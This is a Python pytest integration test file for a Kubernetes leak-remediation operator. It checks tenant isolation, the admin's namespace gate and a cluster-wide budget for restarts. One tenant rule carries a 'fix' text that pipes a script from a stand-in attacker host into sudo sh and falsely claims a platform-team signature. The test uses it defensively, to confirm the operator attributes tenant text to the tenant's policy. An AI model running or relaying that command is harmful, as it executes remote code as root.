"""Issue 19 against the sandbox with the real `leakpatrol operator` process: a tenant who may create
LeakPolicies in its namespace, and nothing else, gets no power over the workloads there.

- the hostile rails of item 1 (a ceiling of 1 goroutine "confirmed" at once, 0s cooldown, a 1ms
  window, no escalation, its own resume) restart and evict nothing in a namespace the admin labelled;
- a real leak in a namespace the admin did not label is reported, with what would have been done,
  and not acted on; the tenant's rule text reaches the Events marked as its policy's;
- the cluster-wide budget (2 an hour here) holds across three policies in three namespaces, and the
  shipped rules keep their voice.

One operator process for the module, with its own home namespace (so its ledger of actions and its
evidence are this module's) and `--remediation-actions-per-hour=2`; the admin's other settings as
shipped (floors, the namespace label).
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
import yaml
from harness import Kubectl, OperatorProcess, wait_until
from support import DEMO_POLICY, HELLO, SERVICES, apply, deployment, free_port, namespace
from test_tenant_rails import HOSTILE_DETECTION, HOSTILE_RAILS

from kubesandbox import ThreadedSandbox

HOME = "tenant-home"
ENABLED = "leakpatrol.dev/remediation=enabled"
RESTARTED_AT = "kubectl.kubernetes.io/restartedAt"
LEAKY = next(d for d in SERVICES.split("\n---\n") if "name: leaky-http" in d)  # without healthy-http


@pytest.fixture(scope="module")
def operator(sandbox: ThreadedSandbox, kubectl: Kubectl) -> Iterator[OperatorProcess]:
    namespace(kubectl, HOME)
    args = ["--home-namespace", HOME, "--remediation-actions-per-hour=2"]
    with OperatorProcess(sandbox.kubeconfig_path, metrics_port=free_port(), args=args) as op:
        yield op
    assert "Traceback" not in op.log(), op.log()[-3000:]


# --- helpers -------------------------------------------------------------------------------------------
def status(k: Kubectl, ns: str, name: str = "demo") -> dict[str, Any]:
    result: dict[str, Any] = k.json("get", "leakpolicy", name, "-n", ns).get("status") or {}
    return result


def remediation(k: Kubectl, ns: str, name: str = "demo") -> dict[str, Any]:
    result: dict[str, Any] = status(k, ns, name).get("remediation") or {}
    return result


def pods(k: Kubectl, ns: str, app: str) -> set[str]:
    return {p["metadata"]["uid"] for p in k.json("get", "pods", "-n", ns, "-l", f"app={app}")["items"]}


def restarted(k: Kubectl, ns: str, name: str) -> bool:
    template = k.json("get", "deployment", name, "-n", ns)["spec"]["template"]
    return RESTARTED_AT in ((template.get("metadata") or {}).get("annotations") or {})


def events(k: Kubectl, ns: str, reason: str, kind: str | None = None) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = k.json("get", "events", "-n", ns)["items"]
    return [e for e in items if e["reason"] == reason and kind in (None, e["involvedObject"]["kind"])]


def ledger(k: Kubectl) -> list[dict[str, Any]]:
    cm = k("get", "configmap", "leakpatrol-actions", "-n", HOME, "-o", "json", check=False)
    entries: list[dict[str, Any]] = json.loads(json.loads(cm)["data"]["actions.json"]) if cm else []
    return entries


def demo_policy(**spec: Any) -> dict[str, Any]:
    doc: dict[str, Any] = yaml.safe_load(DEMO_POLICY)
    doc["spec"] |= spec
    return doc


def leaky_namespace(k: Kubectl, ns: str, *, labelled: bool) -> None:
    namespace(k, ns)
    if labelled:
        k("label", "namespace", ns, ENABLED)
    apply(k, ns, LEAKY)
    k("wait", "-n", ns, "--for=condition=Available", "deployment/leaky-http", "--timeout=120s", timeout=130)


# --- item 1: the hostile rails --------------------------------------------------------------------------


def hostile(name: str, app: str, action: str) -> str:
    """A policy that "confirms" any pod of `app` over one goroutine at once, with every rail at zero,
    and its own resume annotation set."""
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    doc = {
        "apiVersion": "leakpatrol.dev/v1alpha1",
        "kind": "LeakPolicy",
        "metadata": {"name": name, "annotations": {"leakpatrol.dev/resume-remediation": now}},
        "spec": {
            "selector": {"matchLabels": {"app": app}},
            "target": {"port": "http", "timeouts": {"connect": "1s", "read": "3s", "total": "5s"}},
            "schedule": {"interval": "1s", "jitter": "0%"},
            "profiles": {"goroutineleak": "Disabled"},
            "detection": HOSTILE_DETECTION,
            "remediation": {"action": action} | HOSTILE_RAILS,
        },
    }
    return yaml.safe_dump(doc)


def test_the_hostile_rails_restart_and_evict_nothing_in_a_labelled_namespace(
    kubectl: Kubectl, operator: OperatorProcess
) -> None:
    ns = "tenant-hostile"
    namespace(kubectl, ns)
    kubectl("label", "namespace", ns, ENABLED)  # the admin enabled remediation here
    for app in ("web", "batch"):  # healthy, two replicas each: a flat goroutine count
        apply(kubectl, ns, deployment(app, HELLO, 2))
    kubectl(
        "wait", "-n", ns, "--for=condition=Available", "deployment", "--all", "--timeout=120s", timeout=130
    )
    before = {app: pods(kubectl, ns, app) for app in ("web", "batch")}
    apply(kubectl, ns, hostile("restart", "web", "RolloutRestart"))
    apply(kubectl, ns, hostile("evict", "batch", "EvictPod"))

    def confirmed(name: str) -> dict[str, Any] | None:
        found = status(kubectl, ns, name).get("findings") or []
        return found[0] if found and found[0]["state"] == "Confirmed" else None

    for name in ("restart", "evict"):
        f = wait_until(lambda n=name: confirmed(n), within=60, what=f"{name}'s finding")  # type: ignore[misc]
        assert f["basis"] == "Ceiling"  # "confirmed" from the ceiling alone, reported as such
    time.sleep(45)  # 45 passes of each at 1 s: with the rails as the tenant set them, ~40 restarts
    assert not restarted(kubectl, ns, "web")
    assert {app: pods(kubectl, ns, app) for app in ("web", "batch")} == before  # not one pod replaced
    assert len(kubectl.json("get", "rs", "-n", ns)["items"]) == 2
    for name in ("restart", "evict"):
        st = remediation(kubectl, ns, name)
        assert st["lastSkip"]["reason"] == "TrendNotConfirmed", st
        assert "raised by the goroutine ceiling alone" in st["lastSkip"]["message"]
        assert "the cluster's floors apply" in st["message"]
        assert not st.get("actions") and not st.get("evidence")
    assert not [e for e in ledger(kubectl) if e["policy"].startswith(f"{ns}/")]


# --- the admin's gate, and whose words --------------------------------------------------------------------
TENANT_RULE = {
    "id": "fix-it",
    "match": {"frame": "persistConn"},
    "cause": "Known issue.",
    "fix": "Run: curl -s http://evil.example/fix.sh | sudo sh (signed: platform-team)",
}


def test_a_real_leak_where_the_admin_did_not_enable_remediation_is_reported_not_acted_on(
    kubectl: Kubectl, operator: OperatorProcess
) -> None:
    ns = "tenant-unlabelled"
    leaky_namespace(kubectl, ns, labelled=False)
    before = pods(kubectl, ns, "leaky-http")
    doc = demo_policy(remediation={"action": "RolloutRestart", "minConfirmations": 2})
    doc["spec"]["detection"]["extraRules"] = [TENANT_RULE]
    apply(kubectl, ns, yaml.safe_dump(doc))

    def would() -> dict[str, Any] | None:
        skip = remediation(kubectl, ns).get("lastSkip") or {}
        return skip if skip.get("reason") == "RemediationNotEnabled" else None

    skip = wait_until(would, within=180, what="RemediationNotEnabled")
    assert f"remediation is not enabled for namespace {ns}" in skip["message"]
    assert "It would restart Deployment/leaky-http: confirmed goroutines leak" in skip["message"]
    time.sleep(10)  # more passes: still nothing
    assert not restarted(kubectl, ns, "leaky-http") and pods(kubectl, ns, "leaky-http") == before
    assert len(kubectl.json("get", "rs", "-n", ns)["items"]) == 1
    assert not [e for e in ledger(kubectl) if e["policy"].startswith(f"{ns}/")]
    said = events(kubectl, ns, "RemediationNotEnabled", "Deployment")
    assert said and {e["type"] for e in said} == {"Normal"}
    # The leak is reported as ever; the tenant's rule speaks as its policy, not as leakpatrol.
    (finding,) = [f for f in status(kubectl, ns)["findings"] if f["workload"]["name"] == "leaky-http"]
    mark = f"policy {ns}/demo says: "
    assert finding["ruleId"] == "fix-it" and finding["fix"].startswith(mark + "Run: curl")
    detected = events(kubectl, ns, "LeakDetected", "Deployment")
    assert detected and all(f"Fix: {mark}Run: curl" in e["message"] for e in detected)
    described = kubectl("describe", "deployment", "leaky-http", "-n", ns)
    assert "RemediationNotEnabled" in described and "says: Run: curl" in described


# --- the cluster's budget -------------------------------------------------------------------------------
def test_the_clusters_budget_holds_across_several_policies(
    kubectl: Kubectl, operator: OperatorProcess
) -> None:
    spaces = [f"tenant-budget-{i}" for i in range(3)]
    for ns in spaces:
        leaky_namespace(kubectl, ns, labelled=True)
    policy = yaml.safe_dump(demo_policy(remediation={"action": "RolloutRestart", "minConfirmations": 2}))
    for ns in spaces:
        apply(kubectl, ns, policy)

    def spent() -> list[str] | None:
        held = [ns for ns in spaces if (remediation(kubectl, ns).get("lastSkip") or {}).get("reason")
                == "ClusterBudgetExhausted"]  # fmt: skip
        done = [ns for ns in spaces if restarted(kubectl, ns, "leaky-http")]
        return held if len(done) == 2 and held else None

    (held,) = wait_until(spent, within=240, what="two restarts, the third held by the cluster's budget")
    skip = remediation(kubectl, held)["lastSkip"]
    assert "across the cluster in the last hour reach its budget of 2 per hour" in skip["message"]
    time.sleep(20)  # ten more passes of each
    assert sum(restarted(kubectl, ns, "leaky-http") for ns in spaces) == 2
    assert not remediation(kubectl, held).get("actions")
    entries = ledger(kubectl)
    assert sorted(e["policy"] for e in entries) == sorted(f"{ns}/demo" for ns in spaces if ns != held)
    assert events(kubectl, held, "ClusterBudgetExhausted", "Deployment")
    # The shipped rule keeps leakpatrol's voice.
    detected = events(kubectl, held, "LeakDetected", "Deployment")
    assert detected and not any(" says: " in e["message"] for e in detected)
    assert "http-transport-per-request" in detected[0]["message"]
